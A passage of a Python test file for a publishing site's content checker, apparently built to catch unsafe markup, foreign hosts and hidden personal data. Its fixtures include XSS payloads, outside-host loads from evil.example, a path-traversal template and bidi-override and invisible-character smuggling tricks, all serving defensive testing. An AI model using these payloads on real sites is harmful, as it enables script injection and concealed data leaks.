d('yaml-bad-indentation-in-list-item', {C: t}, [(C, 13, 'yaml-indentation')])
t = rep(case, 'source: 群众举报', 'source 群众举报')
d('yaml-missing-colon', {C: t}, [(C, 7, 'yaml-missing-colon')])
t = rep(case, 'outcome: 责令整改。', 'outcome: "D:\\台账\\2026"')
d('yaml-backslash-in-double-quotes', {C: t}, [(C, 15, 'yaml-bad-escape')])
# an ID number's check X escaped in double quotes: the value is personal data as well
t = rep(case, 'outcome: 责令整改。', 'outcome: "核实身份证 11010519900307128\\X"')
d('yaml-escaped-check-x-of-an-id-number', {C: t},
  [(C, 15, 'personal-data-in-unread-line'), (C, 15, 'yaml-bad-escape')])
# in a notice's front matter too, at the line of the file (past its ---): a mobile
t = rep(notice, 'title: ', 'title: "手机 13812345678 \\q" #')
d('yaml-unread-front-matter-with-a-phone', {N: t},
  [(N, 2, 'personal-data-in-unread-line'), (N, 2, 'yaml-bad-escape')])
t = rep(notice, '\n---\n\n', '\n\n')
d('notice-front-matter-not-closed', {N: t}, [(N, 20, 'front-matter-unclosed')])


# ---- check finds what the build would refuse
labels = open(REPO / 'site_config/labels.yml').read()
LP = 'site_config/labels.yml'
t = rep(labels, '  facet_title: "典型案例：{name}"\n', '')
d('labels-missing-one-the-build-needs', {LP: t}, [(LP, line_of(t, 'cases:\n  title: 典型案例'), 'missing-label')])
# What a county adopting the project prints only once its data grows (a list past one
# page, its first issued 公文): missing or mistyped, said now at its line, not on that day
t = rep(labels, '  seal: "（此件公开发布，网站发布件不加盖印章）"\n', '')
d('labels-missing-the-seal-a-first-gongwen-prints', {LP: t},
  [(LP, line_of(t, 'document:\n'), 'label-needed-later')])
t = rep(labels, '  seal: "（此件公开发布，网站发布件不加盖印章）"', '  seal: ""')
d('labels-seal-written-empty', {LP: t}, [(LP, line_of(t, '  seal: ""'), 'label-needed-later')])
t = rep(labels, '  previous: 上一页（第{number}页）\n', '')
t = rep(t, '  next: 下一页（第{number}页）', '  next: 下一页（第{num}页）')
d('labels-pager-missing-and-mistyped', {LP: t},
  [(LP, line_of(t, 'common:\n'), 'label-needed-later'),
   (LP, line_of(t, '  next: 下一页'), 'label-placeholders')])
t = rep(labels, 'feeds:\n', 'feedz:\n')
d('labels-section-misspelt', {LP: t}, [(LP, 1, 'missing-label')])

t = notice + '\n详见[案例](../cases/2026-099.md)、[台账](/ledger/)和[举报渠道](../report.md)。\n'
d('notice-link-to-no-page', {N: t}, [(N, 24, 'broken-link'), (N, 24, 'broken-link')])

t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: [重要]东城镇办事员张某某推诿扯皮问题')
d('yaml-title-starting-with-bracket', {C: t}, [(C, 3, 'yaml-quote-needed')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: "东城镇"办事员张某某推诿扯皮问题')
d('yaml-title-starting-with-quoted-word', {C: t}, [(C, 3, 'yaml-text-after-quote')])
t = rep(case, '  - name: 张某某', "  - name: '张某某' 等二人")
d('yaml-text-after-closing-single-quote', {C: t}, [(C, 11, 'yaml-text-after-quote')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: @东城镇办事员张某某推诿扯皮问题')
d('yaml-title-starting-with-at', {C: t}, [(C, 3, 'yaml-quote-needed')])
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改，见督办单 #3 号。')
d('yaml-hash-drops-the-rest-of-a-value', {C: t}, [(C, 15, 'yaml-hash-in-value')])
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改。  # 这是注释')
d('yaml-comment-after-a-value-is-fine', {C: t}, [])
t = rep(case, 'source: 群众举报', 'source:群众举报')
d('yaml-no-space-after-colon', {C: t}, [(C, 7, 'yaml-missing-colon')])
# ---- issue 11: markup as the browser reads it
def nb(payload):
    """The minimal notice with a payload as its body's line 12."""
    return notice + '\n' + payload + '\n'
d('notice-comment-closed-by-bang-gt', {N: nb('<!--><img src="x"/onerror=alert(1)>-->')}, [(N, 24, 'unsafe-markup')])
d('notice-comment-closed-by-dash-gt', {N: nb('<!---><svg/onload=alert(1)>-->')}, [(N, 24, 'unsafe-markup')])
d('notice-cdata-is-a-bogus-comment', {N: nb('<![CDATA[ ><img src=x/onerror=alert(1)> ]]>')}, [(N, 24, 'unsafe-markup')])
d('notice-svg-cdata-hides-img', {N: nb('<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>')}, [(N, 24, 'unsafe-markup')])
d('notice-tab-entity-in-javascript-href', {N: nb('<a href="jav&#9;ascript:alert(1)">点击</a>')}, [(N, 24, 'unsafe-markup')])
d('notice-comment-over-three-lines', {N: nb('<!--\n<img src=x onerror=alert(1)>\n-->')}, [(N, 24, 'unsafe-markup')])
d('notice-comment-over-three-lines-alone', {N: nb('<!--\n草稿说明\n-->')}, [(N, 24, 'unsafe-markup')])
d('notice-style-import', {N: nb('<style>@import "https://evil.example/x.css";</style>')}, [(N, 24, 'unsafe-markup')])
d('notice-details-ontoggle-uppercase', {N: nb('<DETAILS OPEN ONTOGGLE=alert(1)>x</DETAILS>')}, [(N, 24, 'unsafe-markup')])

# ---- issue 11: third-party loads, hosts read by the WHATWG URL rules
d('notice-backslash-path-is-another-host', {N: nb('<img src="/\\evil.example/t.png" alt="图">')}, [(N, 24, 'unlisted-host'), (N, 24, 'unsafe-markup')])
d('notice-poster-loads-from-another-host', {N: nb('<video poster="https://evil.example/p.png"></video>')}, [(N, 24, 'unlisted-host'), (N, 24, 'unsafe-markup')])
d('notice-srcset-loads-from-another-host', {N: nb('<img src="a.png" srcset="https://evil.example/a.png 2x" alt="图">')}, [(N, 24, 'unlisted-host'), (N, 24, 'unsafe-markup')])
# A 网上平台 channel vouches for its own address, not for its host: on a shared service
# (a questionnaire site) a body link to anyone's form there passed, worded as the
# platform. Its address and what is under a folder address still pass.
CH = 'site_config/channels.yml'
channels = open(REPO / CH).read()
shared = rep(channels, 'value: https://jubao.yanshi-demo.example.gov.cn/', 'value: https://www.wjx.example.com/vm/jubao.aspx')
t = notice + '\n[网上举报](https://www.wjx.example.com/vm/jubao.aspx#top)\n\n[举报登记表](https://www.wjx.example.com/vm/other.aspx)\n\n[另一平台](https://wjx.example.com/vm/jubao.aspx)\n\n[明文](http://www.wjx.example.com/vm/jubao.aspx)\n'
d('notice-link-elsewhere-on-a-channels-host', {CH: shared, N: t}, [(N, 26, 'unlisted-host'), (N, 28, 'unlisted-host'), (N, 30, 'unlisted-host')])
t = notice + '\n[网上举报](https://jubao.yanshi-demo.example.gov.cn/report/new?type=1)\n'
d('notice-link-under-a-channels-folder-address', {N: t}, [])
# a link to another host is unlisted-host alone: the host rule is not the sanitiser's
d('notice-http-without-slashes', {N: nb('[链接](http:evil.example/x)')}, [(N, 24, 'unlisted-host')])
d('notice-backslash-before-at-sign', {N: nb('[链接](https://evil.example\\@example.gov.cn/)')}, [(N, 24, 'unlisted-host')])
t = rep(subs, 'https://example.gov.cn/c1', 'https://evil.example\\@example.gov.cn/c1')
d('submission-backslash-before-at-sign', {S: t}, [(S, 3, 'bad-url')])

# a case's page is the site's: its title is no 通报, 决定 or 处分
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题\n', 'title: 关于东城镇办事员张某某推诿扯皮问题的处分决定\n')
d('case-titled-as-decision', {C: t}, [(C, 3, 'case-reads-as-official')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题\n', 'title: 东城镇办事员张某某推诿扯皮问题的通报。\n')
d('case-titled-as-tongbao', {C: t}, [(C, 3, 'case-reads-as-official')])

# ---- issue 11: labels are text
LB = 'site_config/labels.yml'
labels = open(REPO / LB).read()
t = rep(labels, '  home: 首页\n', '  home: 首页<img src=x onerror=alert(1)>\n')
d('labels-nav-event-handler', {LB: t}, [(LB, line_of(t, '  home: 首页<'), 'label-markup')])
t = rep(labels, '  more: 查看全部\n', '  more: \'查看全部<style>@import "https://evil.example/x.css";</style>\'\n')
d('labels-style-import', {LB: t}, [(LB, line_of(t, '  more: '), 'label-markup')])
t = rep(labels, '  cases: 典型案例\n', '  cases: 典型案例<!-- x -->\n')
d('labels-nav-comment', {LB: t}, [(LB, line_of(t, '  cases: 典型案例<'), 'label-markup')])
t = rep(labels, '  ledger: 整改台账\n', '  ledger: 整改&#21488;账\n')
d('labels-character-reference', {LB: t}, [(LB, line_of(t, '  ledger: 整改&'), 'label-markup')])
# a computed page states status: its title, a feed's title or a line of it is no 通报 or 决定
t = rep(labels, 'statistics:\n  title: 统计分析\n', 'statistics:\n  title: 专项治理情况通报\n')
d('labels-computed-page-titled-as-tongbao', {LB: t}, [(LB, line_of(t, '  title: 专项治理情况通报'), 'label-reads-as-official')])
t = rep(labels, '  cases: 典型案例订阅\n', '  cases: 典型案例处分决定\n')
d('labels-feed-titled-as-decision', {LB: t}, [(LB, line_of(t, '  cases: 典型案例处分决定'), 'label-reads-as-official')])
t = rep(labels, '对未按时报送单位的通报以通知公告为准。', '对未按时报送的单位现予通报。')
d('labels-computed-line-announces-tongbao', {LB: t}, [(LB, line_of(t, '  intro: 各单位按要求报送'), 'label-reads-as-official')])
# the commission's voice (经研究决定) on a computed page, where no one decided anything
t = rep(labels, '对未按时报送单位的通报以通知公告为准。', '经研究决定，约谈未按时报送单位的主要负责人。')
d('labels-computed-line-speaks-for-the-commission', {LB: t}, [(LB, line_of(t, '  intro: 各单位按要求报送'), 'label-reads-as-official')])
# the commission's acts in a computed line's own words (依规免予问责, 责令……整改, 给予……处分):
# a computed page says where a record stands (已免予问责)
t = rep(labels, '经认定符合容错情形，已免予问责。', '经认定符合容错情形，依规免予问责。')
d('labels-computed-line-exempts-by-the-rules', {LB: t}, [(LB, line_of(t, '  tolerance_note:'), 'label-reads-as-official')])
t = rep(labels, '对未按时报送单位的通报以通知公告为准。', '责令未按时报送单位限期补报，并给予主要负责人党纪处分。')
d('labels-computed-line-orders-and-sanctions', {LB: t}, [(LB, line_of(t, '  intro: 各单位按要求报送'), 'label-reads-as-official')])
# the decision's 予以 (予以澄清正名, 予以容错免责) on a computed page: it states 已澄清正名
t = rep(labels, '经查不实已澄清正名、', '经查不实、予以澄清正名，')
d('labels-computed-line-clarifies-by-its-act', {LB: t}, [(LB, line_of(t, '  intro: 查实的'), 'label-reads-as-official')])
# the drafts of issued notices and the 公文's own words may (their sections are the document's)
t = rep(labels, '  title: "关于{month}专项治理工作情况的通报"\n', '  title: "{month}工作情况通报"\n')
d('labels-issued-notice-words-may-read-as-tongbao', {LB: t}, [])

# ---- issue 11: personal data in forms people write
def rid(body):
    """A resident ID with its check character (GB 11643-1999)."""
    w = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return body + '10X98765432'[sum(int(a) * b for a, b in zip(body, w)) % 11]
ID1, ID2 = rid('11010519900307123'), rid('31010419851120456')
def facts(line):
    return rep(case, '推诿扯皮。\n', '推诿扯皮。\n  ' + line + '\n')
d('pd-two-ids-side-by-side', {C: facts(f'身份证号{ID1} {ID2}。')}, [(C, 10, 'personal-id-number'), (C, 10, 'personal-id-number')])
d('pd-id-then-a-digit', {C: facts(f'身份证号 {ID1} 5号楼。')}, [(C, 10, 'personal-id-number')])
# Characters Unicode says render as nothing although they are not format characters (a
# variation selector, the combining grapheme joiner, a Hangul or Khmer filler): one in an
# ID number, a mobile number or a redacted name hid it from check and the audit.
d('pd-id-split-by-a-variation-selector', {C: facts(f'身份证号 {ID1[:9]}\ufe0f{ID1[9:]}。')}, [(C, 10, 'personal-id-number')])
d('pd-mobile-split-by-an-ideographic-variation-selector', {C: facts('手机 1381234\U000e01005678')}, [(C, 10, 'personal-phone')])
d('pd-mobile-split-by-a-hangul-filler', {C: facts('手机 138\u31641234\u11605678')}, [(C, 10, 'personal-phone')])
t = rep(case, '    measures: [诫勉谈话]', '    measures: [诫勉谈话]\n  - name: 李小军\n    position: 股长\n    redacted: 是')
t = rep(t, 'outcome: 责令整改。', 'outcome: 责令整改，李\u034f小军作出检查。')
d('case-redacted-name-split-by-a-grapheme-joiner', {C: t}, [(C, 18, 'redacted-name-shown')])
d('pd-id-in-groups-of-four', {C: facts(f'证件 {ID1[:4]} {ID1[4:8]} {ID1[8:12]} {ID1[12:16]} {ID1[16:]}')}, [(C, 10, 'personal-id-number')])
d('pd-id-with-word-joiners', {C: facts('证件' + '\u2060'.join(ID1))}, [(C, 10, 'personal-id-number')])
d('pd-id-padded-with-ideographic-spaces', {C: facts(f'证件\u3000{ID1[:6]}\u3000{ID1[6:14]}\u3000{ID1[14:]}')}, [(C, 10, 'personal-id-number')])
d('pd-mobile-3-8', {C: facts('手机 139-22345678')}, [(C, 10, 'personal-phone')])
d('pd-mobile-dotted', {C: facts('手机 138.1234.5678')}, [(C, 10, 'personal-phone')])
d('pd-mobile-country-code-no-plus', {C: facts('手机 8613955556666')}, [(C, 10, 'personal-phone')])
d('pd-mobile-soft-hyphens', {C: facts('手机 138\u00ad1234\u00ad5678')}, [(C, 10, 'personal-phone')])
d('pd-mobile-left-to-right-mark', {C: facts('手机 138\u200e1234\u200e5678')}, [(C, 10, 'control-character'), (C, 10, 'personal-phone')])
d('pd-email-ideographic-full-stop', {C: facts('邮箱 wangwu@qq。com')}, [(C, 10, 'personal-email')])
d('pd-email-fullwidth-at', {C: facts('邮箱 wangwu＠163．com')}, [(C, 10, 'personal-email')])
d('notice-mailto-percent-encoded', {N: nb('[写信](mailto:wangwu%40qq.com)')}, [(N, 24, 'personal-email')])
d('notice-tel-percent-encoded', {N: nb('[打电话](tel:%2B86%20139%202234%205678)')}, [(N, 24, 'personal-phone')])
t = rep(case, '    measures: [诫勉谈话]', '    measures: [诫勉谈话]\n  - name: 李某某\n    position: 股长\n    redacted: 是')
d('pd-redacted-name-with-zero-width-space', {C: rep(t, 'outcome: 责令整改。', 'outcome: 责令整改，李\u200b某某作出检查。')}, [(C, 18, 'redacted-name-shown')])
d('pd-redacted-name-padded-with-ideographic-spaces', {C: rep(t, 'outcome: 责令整改。', 'outcome: 责令整改，李\u3000某\u3000某作出检查。')}, [(C, 18, 'redacted-name-shown')])
d('pd-redacted-name-in-notice-with-soft-hyphen', {C: t, N: nb('李\u00ad某某已作出检查。')}, [(N, 24, 'redacted-name-shown')])

# ---- issue 11: files under content/ are read or refused
# ---- a notice body as the engine converts it (mkdocs adds toc and fenced_code)
d('notice-fenced-code-takes-the-theme-config-id', {N: nb('```{#__config}\n{"base": "https://evil.example/"}\n```')}, [(N, 24, 'unsafe-markup')])
# a heading's id is never one of the theme's (sanitize.slugify: h__drawer), in the build and in check
d('notice-heading-named-like-a-theme-id-is-fine', {N: nb('## 一、基本情况\n\n正文，见[下文](#h__drawer)。\n\n## __drawer\n\n正文。')}, [])
d('notice-raw-heading-takes-a-theme-id', {N: nb('<h2 id="__drawer">一、基本情况</h2>\n\n正文。')}, [(N, 24, 'unsafe-markup')])
d('notice-entity-encoded-javascript-link', {N: nb('请看[说明](&#106;avascript:alert(1))。')}, [(N, 24, 'unsafe-markup')])
d('notice-reference-link-over-two-lines', {N: nb('请看[说明][r]。\n\n[r]:\n  javascript:alert(1)')}, [(N, 26, 'unsafe-markup')])
d('notice-backslash-before-code-span', {N: nb('\\`<img src=x onerror=alert(1)>`')}, [(N, 24, 'unsafe-markup')])
d('notice-image-from-an-allowed-link-host', {N: nb('<img src="https://www.example.gov.cn/a.png" alt="图">\n\n![图](https://www.example.gov.cn/b.png)')}, [(N, 24, 'unsafe-markup'), (N, 26, 'unsafe-markup')])
# the cases a notice cites are printed after its 通报如下 paragraph: no element of the body may hold them
d('notice-strike-open-across-the-cited-cases', {N: notice[:notice.index('现将')] + '现将东城镇办事员张某某推诿扯皮问题通报如下。<s>\n\n## 一、基本情况\n\n正文。</s>\n'}, [(N, 22, 'markup-around-cited-cases')])
d('notice-details-open-across-the-cited-cases', {N: notice[:notice.index('现将')] + '<details><summary>通报内容</summary>\n现将东城镇办事员张某某推诿扯皮问题通报如下。\n\n正文。\n</details>\n'}, [(N, 22, 'markup-around-cited-cases')])
d('notice-box-goes-on-past-the-cited-cases', {N: notice[:notice.index('现将')] + '!!! note "说明"\n    现将东城镇办事员张某某推诿扯皮问题通报如下。\n\n    第二段，仍在提示框内。\n'}, [(N, 22, 'markup-around-cited-cases')])
d('notice-strike-closed-in-the-intro-is-fine', {N: notice[:notice.index('现将')] + '现将东城镇办事员张某某<s>推诿</s>扯皮问题通报如下。\n\n## 一、基本情况\n\n<s>正文。</s>\n'}, [])
d('notice-details-left-open', {N: nb('<details><summary>展开</summary>\n\n说明。')}, [(N, 24, 'unclosed-markup')])
d('notice-stray-closing-div', {N: nb('说明。\n\n</div>\n\n下文。')}, [(N, 26, 'stray-end-tag')])
d('notice-inline-admonition-is-fine', {N: nb('!!! note inline "提示"\n    内容。')}, [])
d('notice-link-to-an-allowed-host-is-fine', {N: nb('请看[主管部门网站](https://www.example.gov.cn/a)和<a href="https://zhuanxiang.example.gov.cn/cases/">原文</a>。')}, [])
d('notice-entity-encoded-link-to-another-host', {N: nb('请看[说明](https&#58;//evil.example/a)。')}, [(N, 24, 'unlisted-host')])
d('notice-reference-to-another-host-over-two-lines', {N: nb('请看[说明][r]。\n\n[r]:\n  https://evil.example/a')}, [(N, 26, 'unlisted-host')])
d('notice-case-texts-in-a-category-not-official', {N: rep(rep(notice, 'category: 通报', 'category: 工作动态'), 'title: 关于东城镇推诿扯皮问题的通报', 'title: 东城镇整治推诿扯皮工作动态')}, [(N, line_of(notice, 'case_texts:'), 'notice-case-texts-not-official')])
t = rep(notice, 'signed_on: 2026-05-09\n', 'signed_on: 2026-05-09\ndraft:\n')
d('notice-draft-left-empty', {N: t}, [(N, line_of(t, 'draft:'), 'control-field-empty')])
t = rep(notice, 'signed_on: 2026-05-09\n', 'signed_on: 2026-05-09\ncorrections:\n  - date: 2026-11-30\n    text: 更正单位名称\n')
d('notice-correction-in-future', {N: t}, [(N, line_of(t, '  - date: 2026-11-30'), 'date-in-future')])
d('page-front-matter-names-a-template', {'content/guide.md': '---\ntitle: 工作指南\ntemplate: ../../../../../etc/passwd\nhide: [navigation]\n---\n\n# 工作指南\n\n正文。\n'}, [('content/guide.md', 3, 'page-front-matter-key'), ('content/guide.md', 4, 'page-front-matter-key')])

t = rep(notice, 'date: 2026-05-10', 'date: 46152')
d('notice-date-excel-serial', {N: t}, [(N, 3, 'serial-date-in-text')])

# ---- early publication: what has not happened is not printed as done
t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-12-10')
d('case-published-in-future', {C: t}, [(C, 4, 'case-in-future'), (C, 17, 'date-order')])
t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-12-10\nembargo: 2026-12-10 09:00')
t = rep(t, '  - date: 2026-06-10', '  - date: 2026-12-10')
d('case-in-future-with-embargo-is-scheduled', {C: t}, [(N, 5, 'notice-before-case'), (N, 22, 'quotes-unpublished-record'), (C, line_of(t, '  - date: 2026-12-10'), 'date-in-future')])
t = rep(case, '  - date: 2026-06-10', '  - date: 2026-11-21')
d('case-followup-in-future', {C: t}, [(C, line_of(t, '  - date: 2026-11-21'), 'date-in-future')])
t = case + 'withdrawn:\n  date: 2026-12-30\n  reason: 经复核，事实有误。\n'
d('case-withdrawn-in-future', {C: t}, [(N, 22, 'quotes-unpublished-record'),
                                       (C, line_of(t, '  date: 2026-12-30'), 'date-in-future')])
d('case-withdrawn-left-empty', {C: case + 'withdrawn:\n'}, [(C, case.count('\n') + 1, 'control-field-empty')])
d('case-draft-null', {C: case + 'draft: null\n'}, [(C, case.count('\n') + 1, 'control-field-empty')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: 东城镇办事员张某某推诿扯皮问题\u202excod.exe')
d('case-title-with-a-direction-override', {C: t}, [(C, 3, 'control-character')])
t = units.rstrip('\n') + '\nXZ97,东\u00ad城镇,乡镇,县委办公室,是,否,否\nXZ98,东\u034f城镇,乡镇,县委办公室,是,否,否\nXZ99,东\u200e城镇,乡镇,县委办公室,是,否,否\n'
d('csv-unit-name-differs-by-an-invisible-character', {U: t}, [(U, 6, 'duplicate-record'), (U, 7, 'duplicate-record'), (U, 8, 'control-character')])
# Every bidi control is refused where it is written, the marks (LRM, RLM, ALM) as the
# overrides are: 东城镇\u200f人民政府 or an address with one between its parts reads in
# another order than it is written.
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: 东城镇办事员张某某\u200f推诿扯皮问题')
d('case-title-with-a-right-to-left-mark', {C: t}, [(C, 3, 'control-character')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: "东城镇办事员张某某\\u200e推诿扯皮问题"')
d('case-title-with-a-left-to-right-mark-as-a-yaml-escape', {C: t}, [(C, 3, 'control-character')])
CH = 'site_config/channels.yml'
channels = open(REPO / CH).read()
t = rep(channels, 'value: https://jubao.yanshi-demo.example.gov.cn/', 'value: https://jubao.yanshi-demo.example.gov.cn\u061c/')
d('channel-url-with-an-arabic-letter-mark', {CH: t}, [(CH, line_of(t, '\u061c'), 'control-character')])
t = rep(notice, '现将东城镇办事员张某某推诿扯皮问题通报如下。', '现将东城镇办事员张某某推诿扯皮问题通报如下。\u2066')
d('notice-body-with-an-isolate', {N: t}, [(N, line_of(t, '\u2066'), 'control-character')])
# Tag characters show nothing and spell ASCII: an ID number written in them was on the
# page, in the feed and in the search index while every scan (which drops format
# characters) and every reader saw nothing.
hidden = ''.join(chr(0xE0000 + ord(c)) for c in '110105199003071234')
t = rep(notice, '现将东城镇办事员张某某推诿扯皮问题通报如下。', '现将东城镇办事员张某某推诿扯皮问题\U000e0001' + hidden + '通报如下。')
d('notice-body-with-an-id-number-in-tag-characters', {N: t}, [(N, line_of(t, hidden), 'control-character')])
t = units.rstrip('\n') + '\nXZ97,东城镇' + hidden + ',乡镇,县委办公室,是,否,否\n'
d('csv-unit-name-with-tag-characters', {U: t}, [(U, 6, 'control-character'), (U, 6, 'duplicate-record')])
# One variation selector picks a glyph; a run of them shows nothing and carries one byte
# each (VS1-VS256): a text hidden in them was published past every reader and scan.
smuggled = ''.join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in '110105199003071234'.encode())
t = rep(notice, '现将东城镇办事员张某某推诿扯皮问题通报如下。', '现将东城镇办事员张某某推诿扯皮问题通报如下。\n\n特此通报\u263a' + smuggled + '。')
d('notice-body-with-a-run-of-variation-selectors', {N: t}, [(N, line_of(t, smuggled), 'control-character')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: "东城镇办事员张某某推诿扯皮问题\u263a\\ufe0f\\ufe0f"')
d('case-title-with-variation-selectors-as-yaml-escapes', {C: t}, [(C, 3, 'control-character')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: 东城镇办事员张某某推诿扯皮问题\u260e\ufe0f')
d('case-title-with-one-variation-selector-is-fine', {C: t}, [])
# An attachment's text as a record's: the scans drop these characters, so an ID number
# spelled in tag characters in a published .txt passed check and the audit.
F = 'content/notices/files/说明.txt'
d('attachment-text-with-an-id-number-in-tag-characters', {F: '办理说明\n联系人' + hidden + '\n'}, [(F, 2, 'attachment-hidden-text')])
# A one-line value is what it looks like: a soft hyphen or a grapheme joiner pasted into
# a unit's name in a ledger row is removed, and the name is found (it was unknown-reference
# naming a unit that read exactly as the listed one).
t = rep(ledger, 'TZ-1,XZ01,', 'TZ-1,东\u00ad城\u034f镇,')
d('ledger-unit-name-with-a-soft-hyphen-is-found', {L: t}, [])
# A page staff add under content/ is read as a notice body is, and a file's name too.
P = 'content/guide.md'
t = '---\ntitle: 办事指南\n---\n\n办理时限为\u202e日作工5\u202c。\n\n联系人' + hidden + '\n'
d('content-page-with-a-direction-override-and-tag-characters', {P: t}, [(P, 5, 'control-character'), (P, 7, 'control-character')])
F = 'content/notices/files/处理决定\u202excod.txt'
d('attachment-name-with-a-direction-override', {F: '处理决定书\n'}, [(F, 1, 'file-name-control-character')])
# What the engine reads from a page's head, whoever wrote the list of keys the theme
# uses: MultiMarkdown `key: value` lines at the very top (a redirect to another site),
# a quoted key, a key the theme prints as HTML (revision_date, author).
t = 'template: redirect.html\nLocation: https://evil.example/\n\n办事指南正文。\n'
d('page-multimarkdown-head-redirects', {P: t}, [(P, 1, 'page-front-matter-key'), (P, 2, 'page-front-matter-key')])
t = '---\ntitle: 办事指南\n"revision_date": 2026年<img src=x onerror=alert(1)>\nauthor: 县纪委\n---\n\n办事指南正文。\n'
d('page-front-matter-printed-by-the-theme', {P: t}, [(P, 3, 'page-front-matter-key'), (P, 3, 'unsafe-markup'), (P, 4, 'page-front-matter-key')])

# ---- labels keep their placeholders; the logo and favicon are files of the site
t = rep(labels, '本阶段还剩{left}天。', '本阶段还剩{days}天。')
d('labels-placeholder-renamed', {LB: t}, [(LB, line_of(t, '  phase_running:'), 'label-placeholders')])
t = rep(labels, '本阶段还剩{left}天。', '本阶段还剩若干天。')
d('labels-placeholder-deleted', {LB: t}, [(LB, line_of(t, '  phase_running:'), 'label-placeholders')])
t = rep(labels, '本阶段还剩{left}天。', '本阶段还剩｛left｝天。')
d('labels-placeholder-full-width-braces', {LB: t}, [(LB, line_of(t, '  phase_running:'), 'label-placeholders')])
t = rep(labels, '  qr_alt: "{name}的二维码：{value}"', '  qr_alt: "{name}的二维码：{value"')
d('labels-placeholder-unclosed-brace', {LB: t}, [(LB, line_of(t, '  qr_alt:'), 'label-placeholders')])
t = rep(labels, '  qr_alt: "{name}的二维码：{value}"', '  qr_alt: "{name.__class__}的二维码：{value}"')
d('labels-placeholder-attribute-lookup', {LB: t}, [(LB, line_of(t, '  qr_alt:'), 'label-placeholders')])
t = rep(labels, '  phase_parallel: "同时进行：{names}。"', '  phase_parallel: [同时进行]')
d('labels-list-for-text', {LB: t}, [(LB, line_of(t, '  phase_parallel:'), 'wrong-shape')])
for name, old, new in [
        ('site-logo-from-another-host', 'logo: assets/images/emblem.svg', 'logo: https://www.example.gov.cn/emblem.png'),
        ('site-favicon-from-another-host', 'favicon: assets/images/favicon.svg', 'favicon: //stats.example.gov.cn/f.ico'),
        ('site-logo-breaks-out-of-its-attribute', 'logo: assets/images/emblem.svg', 'logo: \'assets/images/emblem.svg" style="position:fixed;inset:0" data-x="\''),
        ('site-logo-file-missing', 'logo: assets/images/emblem.svg', 'logo: assets/images/no-such-file.svg')]:
    t = rep(site, old, new)
    d(name, {SP: t}, [(SP, line_of(t, new.split(':')[0] + ':'), 'site-image-not-a-file')])

import io, zipfile
def xlsx(rows):
    from openpyxl import Workbook
    book = Workbook(); sheet = book.active; sheet.title = '名单'
    for row in rows:
        sheet.append(row)
    out = io.BytesIO(); book.save(out); return out.getvalue()
def docx(paragraphs, parts=None):
    w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
    body = ''.join(f'<w:p><w:r><w:t>{p}</w:t></w:r></w:p>' for p in paragraphs)
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr('word/document.xml', f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{w}"><w:body>{body}</w:body></w:document>')
        for name, part in (parts or {}).items():
            z.writestr(name, part)
    return out.getvalue()
def pdf(text):
    objs = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
            None, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']
    stream = f'BT /F1 12 Tf 20 100 Td ({text}) Tj ET'
    objs[3] = f'<< /Length {len(stream)} >>\nstream\n{stream}\nendstream'
    out, offsets = b'%PDF-1.4\n', []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out)); out += f'{i} 0 obj\n{o}\nendobj\n'.encode()
    xref = len(out)
    out += f'xref\n0 {len(objs) + 1}\n0000000000 65535 f \n'.encode() + ''.join(f'{o:010d} 00000 n \n' for o in offsets).encode()
    return out + f'trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n'.encode()
F = 'content/files/'
d('file-xlsx-with-id-number', {F + '名单.xlsx': xlsx([['姓名', '证件号'], ['张三', ID1]])}, [(F + '名单.xlsx', 2, 'personal-id-number')])
# an attachment saved as Strict Open XML (Excel or Word): its cells were read as empty and
# its paragraphs as one run of text, so the ID number in it passed check unseen; refused
def _strict_word(data):
    import zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            part = src.read(info).replace(b'http://schemas.openxmlformats.org/wordprocessingml/2006/main', b'http://purl.oclc.org/ooxml/wordprocessingml/main')
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), part)
    return out.getvalue()
d('file-attachments-saved-as-strict-open-xml', {F + '名单.xlsx': _strict(xlsx([['姓名', '证件号'], ['张三', ID1]])),
                                               F + '说明.docx': _strict_word(docx(['张三', '证件号 ' + ID1]))},
  [(F + '名单.xlsx', 1, 'attachment-strict-format'), (F + '说明.docx', 1, 'attachment-strict-format')])
# What Excel shows when it opens the file: a formula joining text pieces ("1381234"&"5678")
# holds no number, and the value kept beside it may be nothing or anything.
d('file-xlsx-formula-spelling-a-mobile', {F + '名单.xlsx': xlsx([['姓名', '电话'], ['张三', '="1381234"&"5678"'], ['李四', '=CONCATENATE("110105","19900307","1239")']])},
